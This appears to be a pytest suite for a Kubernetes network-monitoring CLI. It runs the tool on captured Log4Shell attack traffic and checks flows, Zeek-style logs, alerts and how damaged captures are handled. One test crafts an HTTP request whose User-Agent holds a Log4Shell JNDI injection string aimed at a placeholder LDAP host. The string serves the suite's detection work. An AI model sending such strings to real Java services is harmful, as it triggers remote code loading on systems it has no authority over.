"""`kubectl-netmon analyze` end to end, as a user runs it: a real process on real captures."""

from __future__ import annotations

import json
import os
import re
import select
import struct
import subprocess
import sys
from pathlib import Path

import pytest

from tests.cli.captures import (
    IDB,
    http_exchange,
    packet_blocks,
    pcapng_blocks,
    record_offsets,
    truncated,
    udp_datagrams,
    with_garbage_at_record,
    with_oversized_record,
)

REPO = Path(__file__).resolve().parents[2]
ATTACK = "log4j-attack.pcap"  # 72 packets, 7 TCP connections (tshark -z conv,tcp)
# As a user's shell runs it: stdout to a pipe is block-buffered unless the program flushes.
USER_ENV = {k: v for k, v in os.environ.items() if k != "PYTHONUNBUFFERED"}


def analyze(*args: object, stdin: bytes | None = None) -> subprocess.CompletedProcess:
    """Run the command in a fresh interpreter; stdout and stderr as bytes."""
    proc = subprocess.run([sys.executable, "-m", "kubectl_netmon", "analyze", *map(str, args)],
                          cwd=REPO, env=USER_ENV, input=stdin, capture_output=True, timeout=300)
    assert b"Traceback" not in proc.stderr, proc.stderr.decode(errors="replace")
    return proc


def records(stdout: bytes) -> list[dict]:
    return [json.loads(line) for line in stdout.splitlines()]


def stderr_lines(proc: subprocess.CompletedProcess) -> list[str]:
    return proc.stderr.decode().splitlines()


@pytest.fixture
def attack(shared_pcaps) -> Path:
    return shared_pcaps / ATTACK


def flow_rows(stdout: bytes) -> list[list[str]]:
    """The flows table's data rows, split into cells."""
    flows = stdout.decode().split("\nALERTS")[0].splitlines()
    return [line.split() for line in flows[3:] if line.strip()]


# -- outputs ----------------------------------------------------------------------------------

def test_the_table_lists_every_flow_busiest_first(attack):
    proc = analyze(attack)
    assert proc.returncode == 0
    rows = flow_rows(proc.stdout)
    assert len(rows) == 7
    assert rows[0][2] == "203.0.113.217:8000"  # the class download: most IP bytes
    sizes = [int(row[7]) for row in rows]
    assert sizes == sorted(sizes, reverse=True)


@pytest.mark.parametrize("name", ["log4j-attack.pcap", "log4j-dns_exfil.pcap",
                                  "log4j-user_agent.pcap", "log4j-webapp.pcap",
                                  "spcap-CEXKLs3NQWdEM2CoMj-1639421287179170294-1.pcap"])
def test_every_shared_capture_is_read_whole_with_tsharks_packet_count(shared_pcaps, tshark, name):
    frames = subprocess.run([tshark, "-r", str(shared_pcaps / name), "-T", "fields", "-e",
                             "frame.number"], capture_output=True, check=True).stdout.split()
    proc = analyze(shared_pcaps / name)
    assert proc.returncode == 0
    assert stderr_lines(proc)[-1].startswith(f"{len(frames)} packets, ")


def test_the_table_has_an_alerts_section_with_the_log4shell_notices(attack):
    alerts = analyze(attack).stdout.decode().split("\nALERTS")[1]
    assert "CVE_2021_44228::" in alerts


def test_the_summary_on_stderr_counts_packets_and_flows(attack):
    assert stderr_lines(analyze(attack))[-1].startswith("72 packets, 7 flows, ")


def test_json_output_is_one_zeek_record_per_line_with_a_conn_per_flow(attack):
    recs = records(analyze(attack, "-o", "json").stdout)
    assert {r["_path"] for r in recs} <= {"conn", "notice", "http", "dns"}
    conns = [r for r in recs if r["_path"] == "conn"]
    assert len(conns) == 7 and len({c["uid"] for c in conns}) == 7
    assert all(c["ts"].endswith("Z") and "id.orig_h" in c for c in conns)


def test_json_output_carries_notices_with_zeek_fields(attack):
    notices = [r for r in records(analyze(attack, "-o", "json").stdout) if r["_path"] == "notice"]
    assert notices and all(n["actions"] == ["Notice::ACTION_LOG"] for n in notices)
    assert all(n["note"].startswith("CVE_2021_44228::") for n in notices)


def test_zeek_dir_gets_the_same_conn_records_as_json_output(attack, tmp_path):
    json_conns = [r for r in records(analyze(attack, "-o", "json").stdout) if r["_path"] == "conn"]
    assert analyze(attack, "--zeek-dir", tmp_path / "logs").returncode == 0
    dir_conns = records((tmp_path / "logs" / "conn.log").read_bytes())
    assert dir_conns == [{k: v for k, v in r.items() if k != "_path"} for r in json_conns]


def test_zeek_dir_http_log_has_the_class_download(attack, tmp_path):
    analyze(attack, "--zeek-dir", tmp_path)
    http = records((tmp_path / "http.log").read_bytes())
    (download,) = [r for r in http if r["uri"] == "/Exploit.class"]
    assert (download["method"], download["user_agent"], download["status_code"]) == (
        "GET", "Java/1.8.0_102", 200)


def test_zeek_dir_dns_log_has_the_exfiltration_queries(shared_pcaps, tmp_path):
    analyze(shared_pcaps / "log4j-dns_exfil.pcap", "--zeek-dir", tmp_path)
    dns = records((tmp_path / "dns.log").read_bytes())
    assert dns and all(r["id.resp_h"] == "10.10.10.31" and r["query"] for r in dns)


def test_a_pcapng_copy_gives_the_same_records_as_the_pcap(attack, tshark, tmp_path):
    editcap = Path(tshark).with_name("editcap")
    subprocess.run([str(editcap), "-F", "pcapng", str(attack), str(tmp_path / "a.pcapng")],
                   check=True)
    assert (records(analyze(tmp_path / "a.pcapng", "-o", "json").stdout)
            == records(analyze(attack, "-o", "json").stdout))


@pytest.fixture
def pods(tmp_path) -> Path:
    """`kubectl get pods -A -o json` naming both ends of the attack capture."""
    path = tmp_path / "pods.json"
    path.write_text(json.dumps({"kind": "List", "items": [
        {"kind": "Pod", "metadata": {"namespace": "shop", "name": "web-7d4b9c-x2x9z"},
         "spec": {"nodeName": "node1"},
         "status": {"phase": "Running", "podIP": "198.51.100.10", "hostIP": "172.31.0.5"}},
        {"kind": "Pod", "metadata": {"namespace": "default", "name": "ldap-5f8d7-q7w2e"},
         "spec": {"nodeName": "node2"},
         "status": {"phase": "Running", "podIP": "203.0.113.217", "hostIP": "172.31.0.6"}}]}))
    return path


def test_pods_json_names_both_ends_of_each_flow(attack, pods):
    conns = [r for r in records(analyze(attack, "-o", "json", "--pods-json", pods).stdout)
             if r["_path"] == "conn"]
    names = {(c["orig_pod.name"], c["resp_pod.name"]) for c in conns}
    assert ("ldap-5f8d7-q7w2e", "web-7d4b9c-x2x9z") in names  # the attempt, to port 8080
    assert ("web-7d4b9c-x2x9z", "ldap-5f8d7-q7w2e") in names  # the LDAP callback
    assert all(c["orig_pod.node_ip"] in ("172.31.0.5", "172.31.0.6") for c in conns)
    table = analyze(attack, "--pods-json", pods).stdout.decode()
    assert "shop/web-7d4b9c-x2x9z" in table


def test_pods_json_names_both_ends_of_each_alert(attack, pods):
    notices = [r for r in records(analyze(attack, "-o", "json", "--pods-json", pods).stdout)
               if r["_path"] == "notice"]
    ends = {(n["note"].split("::")[1], n["orig_pod.name"], n["resp_pod.name"]) for n in notices}
    assert ends == {("LOG4J_ATTEMPT_BODY", "ldap-5f8d7-q7w2e", "web-7d4b9c-x2x9z"),
                    ("LOG4J_CALLBACK", "web-7d4b9c-x2x9z", "ldap-5f8d7-q7w2e"),
                    ("LOG4J_LDAP_JAVA", "web-7d4b9c-x2x9z", "ldap-5f8d7-q7w2e"),
                    ("LOG4J_JAVA_CLASS_DOWNLOAD", "web-7d4b9c-x2x9z", "ldap-5f8d7-q7w2e")}
    assert {n["resp_pod.ns"] for n in notices} == {"shop", "default"}


def test_stdin_is_read_when_the_file_is_a_dash(attack):
    proc = analyze("-", stdin=attack.read_bytes())
    assert proc.returncode == 0 and stderr_lines(proc)[-1].startswith("72 packets, 7 flows")


def test_json_records_stream_out_while_the_input_is_still_open(tmp_path):
    # Two datagrams 200 s apart: the second ends the first flow (60 s UDP timeout).
    data = udp_datagrams(tmp_path / "two.pcap", [0, 200]).read_bytes()
    proc = subprocess.Popen([sys.executable, "-m", "kubectl_netmon", "analyze", "-", "-o", "json"],
                            cwd=REPO, env=USER_ENV, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    try:
        proc.stdin.write(data)
        proc.stdin.flush()
        ready, _, _ = select.select([proc.stdout], [], [], 120)  # a guard, not a timing check
        assert ready, "no record came out while stdin stayed open"
        assert json.loads(proc.stdout.readline())["id.orig_p"] == 40000  # the first flow
    finally:
        proc.stdin.close()
        proc.wait(timeout=120)
        proc.stdout.close()
        proc.stderr.close()
    assert proc.returncode == 0


def test_top_limits_the_table_and_says_how_many_flows_there_were(attack):
    proc = analyze(attack, "--top", "2")
    assert len(flow_rows(proc.stdout)) == 2 and b"the busiest 2 of 7" in proc.stdout


def test_max_flows_bounds_the_flow_table_and_warns_when_flows_were_evicted(attack):
    lines = stderr_lines(analyze(attack, "--max-flows", "1"))
    assert [line for line in lines if line.startswith("warning: ") and "evicted" in line]


def test_no_detect_runs_without_alerts(attack):
    recs = records(analyze(attack, "-o", "json", "--no-detect").stdout)
    assert not [r for r in recs if r["_path"] == "notice"]


def test_control_bytes_from_packets_never_reach_any_output_raw(tmp_path):
    pcap = http_exchange(tmp_path / "esc.pcap",
                         b"GET /\x1b[31mred\x00 HTTP/1.1\r\nHost: web\r\n"
                         b"User-Agent: ${jndi:ldap://x/\x1b[31m\x00}\r\n\r\n",
                         b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    for args in ((), ("-o", "json")):
        proc = analyze(pcap, *args, "--zeek-dir", tmp_path / "logs")
        assert proc.returncode == 0
        for out in (proc.stdout, proc.stderr, *(p.read_bytes() for p in
                                                 (tmp_path / "logs").iterdir())):
            assert b"\x1b" not in out and b"\x00" not in out
    recs = records(proc.stdout)
    (http,) = [r for r in recs if r["_path"] == "http"]
    assert http["uri"] == "/\\x1b[31mred\\x00"
    (notice,) = [r for r in recs if r["_path"] == "notice"]  # the jndi User-Agent
    assert "\\x1b[31m\\x00}" in notice["sub"] and "\\\\x1b" not in notice["sub"]  # once


def test_a_tls_client_hello_gives_an_ssl_record_with_the_server_name(tmp_path):
    from tests.capture.l7.samples import openssl_hello

    pcap = http_exchange(tmp_path / "tls.pcap", openssl_hello("api.shop.svc"), b"\x15\x03\x03")
    (ssl,) = [r for r in records(analyze(pcap, "-o", "json").stdout) if r["_path"] == "ssl"]
    assert ssl["server_name"] == "api.shop.svc" and ssl["id.resp_p"] == 8080


# -- bad input --------------------------------------------------------------------------------

def damage_line(proc: subprocess.CompletedProcess, name: str) -> str:
    """The one stderr line about the damage: it names the file."""
    (line,) = [x for x in stderr_lines(proc) if name in x]
    return line


def test_a_truncated_last_record_keeps_every_packet_before_it(attack, tmp_path):
    cut = truncated(attack, tmp_path / "cut.pcap", keep=71)
    proc = analyze(tmp_path / "cut.pcap")
    assert proc.returncode == 0
    assert f"byte {cut}" in damage_line(proc, "cut.pcap")
    assert stderr_lines(proc)[-1].startswith("71 packets")


def test_garbage_after_the_last_record_is_reported_at_its_offset(attack, tmp_path):
    at = with_garbage_at_record(attack, tmp_path / "tail.pcap", 72, b"\xde\xad" * 50)
    proc = analyze(tmp_path / "tail.pcap", "-o", "json")
    assert proc.returncode == 0
    assert f"byte {at}" in damage_line(proc, "tail.pcap")
    assert len([r for r in records(proc.stdout) if r["_path"] == "conn"]) == 7


def test_garbage_in_the_middle_stops_there_and_keeps_the_packets_before(attack, tmp_path):
    at = with_garbage_at_record(attack, tmp_path / "mid.pcap", 30, b"\xff" * 40)
    proc = analyze(tmp_path / "mid.pcap")
    assert proc.returncode == 0
    assert f"byte {at}" in damage_line(proc, "mid.pcap")
    assert stderr_lines(proc)[-1].startswith("30 packets")


def test_a_record_longer_than_the_snap_length_is_reported_at_its_offset(attack, tmp_path):
    at = with_oversized_record(attack, tmp_path / "big.pcap", 40)
    proc = analyze(tmp_path / "big.pcap")
    assert proc.returncode == 0
    assert f"byte {at}" in damage_line(proc, "big.pcap")
    assert stderr_lines(proc)[-1].startswith("40 packets")


@pytest.fixture
def attack_ng(attack, tshark, tmp_path) -> Path:
    """The attack capture as pcapng (one section, one interface), as Wireshark saves it."""
    out = tmp_path / "attack.pcapng"
    subprocess.run([str(Path(tshark).with_name("editcap")), "-F", "pcapng", str(attack),
                    str(out)], check=True)
    return out


def test_a_pcapng_packet_longer_than_its_snap_length_is_read_whole_and_said_once(
        attack, attack_ng, tmp_path):
    """tshark reads such a packet whole (its block says where it ends), so analyze does too."""
    data = bytearray(attack_ng.read_bytes())
    (idb,) = [at for at, btype in pcapng_blocks(bytes(data)) if btype == IDB]
    struct.pack_into("<I", data, idb + 12, 100)  # the interface's snap length
    (tmp_path / "snapped.pcapng").write_bytes(bytes(data))
    first_long = next(at for at in packet_blocks(bytes(data))
                      if struct.unpack_from("<I", data, at + 20)[0] > 100)

    proc = analyze(tmp_path / "snapped.pcapng", "-o", "json")

    assert proc.returncode == 0
    line = damage_line(proc, "snapped.pcapng")
    assert f"byte {first_long}" in line and "snap length 100" in line
    assert records(proc.stdout) == records(analyze(attack, "-o", "json").stdout)


def test_a_pcapng_block_with_a_bad_length_mid_file_keeps_the_packets_before(attack_ng, tmp_path):
    data = bytearray(attack_ng.read_bytes())
    at = packet_blocks(bytes(data))[30]
    struct.pack_into("<I", data, at + 4, 7)  # not a multiple of 4: no block is that long
    (tmp_path / "bad.pcapng").write_bytes(bytes(data))

    proc = analyze(tmp_path / "bad.pcapng")

    assert proc.returncode == 0
    assert f"byte {at}" in damage_line(proc, "bad.pcapng")
    assert stderr_lines(proc)[-1].startswith("30 packets")


def test_a_pcapng_cut_inside_its_last_block_keeps_every_packet_before_it(attack_ng, tmp_path):
    data = attack_ng.read_bytes()
    at = packet_blocks(data)[-1]
    (tmp_path / "cut.pcapng").write_bytes(data[:at + 40])

    proc = analyze(tmp_path / "cut.pcapng")

    assert proc.returncode == 0
    assert f"byte {at}" in damage_line(proc, "cut.pcapng")
    assert stderr_lines(proc)[-1].startswith("71 packets")


def test_a_capture_cut_inside_its_first_record_fails_naming_the_file(attack, tmp_path):
    data = attack.read_bytes()
    (tmp_path / "first.pcap").write_bytes(data[:record_offsets(data)[0] + 30])
    proc = analyze(tmp_path / "first.pcap")
    assert proc.returncode == 1 and proc.stdout == b""
    assert stderr_lines(proc)[0].startswith("error: ") and "first.pcap" in stderr_lines(proc)[0]


def test_a_missing_file_is_one_error_line_and_exit_1(tmp_path):
    proc = analyze(tmp_path / "nope.pcap")
    assert proc.returncode == 1
    (line,) = stderr_lines(proc)
    assert line.startswith("error: ") and "nope.pcap" in line


def test_a_file_that_is_not_a_capture_is_one_error_line_and_exit_1(tmp_path):
    (tmp_path / "notes.txt").write_text("not a capture\n")
    proc = analyze(tmp_path / "notes.txt")
    assert proc.returncode == 1
    (line,) = stderr_lines(proc)
    assert line.startswith("error: ") and "notes.txt" in line


def test_a_bad_pods_json_is_a_usage_error(attack, tmp_path):
    (tmp_path / "pods.json").write_text("{oops")
    proc = analyze(attack, "--pods-json", tmp_path / "pods.json")
    assert proc.returncode == 2 and "--pods-json" in stderr_lines(proc)[0]


def test_a_zeek_dir_that_is_a_file_is_a_usage_error_naming_it(attack, tmp_path):
    (tmp_path / "logs").write_text("notes\n")
    proc = analyze(attack, "--zeek-dir", tmp_path / "logs")
    assert (proc.returncode, stderr_lines(proc)) == (2, [
        f"error: --zeek-dir {tmp_path / 'logs'}: a file, not a directory; name a directory for "
        "the logs"])



def test_a_zeek_log_that_cannot_be_written_is_named_with_the_reason(attack, tmp_path):
    """A full disk (conn.log is /dev/full): one line naming the log, exit 1, no traceback."""
    logs = tmp_path / "logs"
    logs.mkdir()
    (logs / "conn.log").symlink_to("/dev/full")
    proc = analyze(attack, "--zeek-dir", logs)
    assert (proc.returncode, stderr_lines(proc)) == (1, [
        f"error: --zeek-dir: cannot write {logs / 'conn.log'} (No space left on device); what "
        "was written before the failure is in it"])

# -- inspect ----------------------------------------------------------------------------------

def test_inspect_prints_wiresharks_dissection_of_that_flow(attack, tshark):
    conns = [r for r in records(analyze(attack, "-o", "json", "--no-detect").stdout)
             if r["_path"] == "conn" and r["id.resp_p"] == 8000]
    proc = analyze(attack, "--inspect", conns[0]["uid"])
    assert proc.returncode == 0
    text = proc.stdout.decode()
    assert "Hypertext Transfer Protocol" in text and "Exploit.class" in text
    frames = re.findall(r"^Frame \d+: ", text, flags=re.M)
    assert len(frames) == 11  # the 11 packets of that conversation (tshark -z conv,tcp)


def test_inspect_decodes_an_unusual_port_as_the_user_says(attack, tshark):
    conns = [r for r in records(analyze(attack, "-o", "json", "--no-detect").stdout)
             if r["_path"] == "conn" and r["id.resp_p"] == 1389]
    proc = analyze(attack, "--inspect", conns[0]["uid"], "--decode-as", "tcp.port==1389,ldap")
    assert b"Lightweight Directory Access Protocol" in proc.stdout
    assert b"javaCodeBase" in proc.stdout


def test_inspect_of_an_unknown_uid_is_a_usage_error(attack):
    proc = analyze(attack, "--inspect", "CnotAuid")
    assert proc.returncode == 2 and "CnotAuid" in stderr_lines(proc)[0]


def test_inspect_needs_a_file_not_stdin(attack):
    proc = analyze("-", "--inspect", "Cabc", stdin=attack.read_bytes())
    assert proc.returncode == 2 and "stdin" in stderr_lines(proc)[0]
